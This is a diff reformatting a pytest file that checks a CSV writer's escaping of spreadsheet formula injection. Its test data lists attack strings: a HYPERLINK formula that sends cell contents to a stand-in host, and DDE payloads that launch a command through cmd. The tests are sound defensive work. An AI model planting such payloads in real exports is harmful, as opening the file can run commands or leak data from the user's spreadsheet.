@@ -8,7 +8,7 @@ import pytest
 from commonweal.core import csvfiles
 
 ATTACKS = [
-    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -34,7 +34,9 @@ def test_a_cell_that_would_run_is_written_with_a_quote_in_front(attack):
     assert _cells(_written([["safe", attack]])) == [["safe", "'" + attack]]
 
 
-@pytest.mark.parametrize("plain", ["Housing", "It's fine", "Care leavers aged 18-25", "", "'quoted", "a=b"])
+@pytest.mark.parametrize(
+    "plain", ["Housing", "It's fine", "Care leavers aged 18-25", "", "'quoted", "a=b"]
+)
 def test_other_text_is_written_as_it_is(plain):
     assert _cells(_written([[plain]])) == [[plain]]
 
@@ -44,9 +46,22 @@ def test_numbers_stay_numbers(number):
     assert _cells(_written([[number]])) == [[str(number)]]
 
 
-@pytest.mark.parametrize("value", [
-    *ATTACKS, "-5% smoking", "+1", "'=already quoted", "''+twice", "'", "''", "plain", "-", "=", "'-5",
-])
+@pytest.mark.parametrize(
+    "value",
+    [
+        *ATTACKS,
+        "-5% smoking",
+        "+1",
+        "'=already quoted",
+        "''+twice",
+        "'",
+        "''",
+        "plain",
+        "-",
+        "=",
+        "'-5",
+    ],
+)
 def test_reading_back_gives_exactly_what_was_written(value):
     [[cell]] = _cells(_written([[value]]))
     assert csvfiles.unescape_cell(cell) == value
@@ -54,7 +69,9 @@ def test_reading_back_gives_exactly_what_was_written(value):
 
 def test_a_cell_typed_with_a_quote_is_not_changed_when_read():
     assert csvfiles.unescape_cell("'hello") == "'hello"
-    assert csvfiles.unescape_cell("'-5") == "'-5"  # a number never gets a quote, so this one was typed
+    assert (
+        csvfiles.unescape_cell("'-5") == "'-5"
+    )  # a number never gets a quote, so this one was typed
 
 
 def test_rows_end_as_rfc_4180_says_so_a_carriage_return_in_a_cell_stays_in_its_cell():
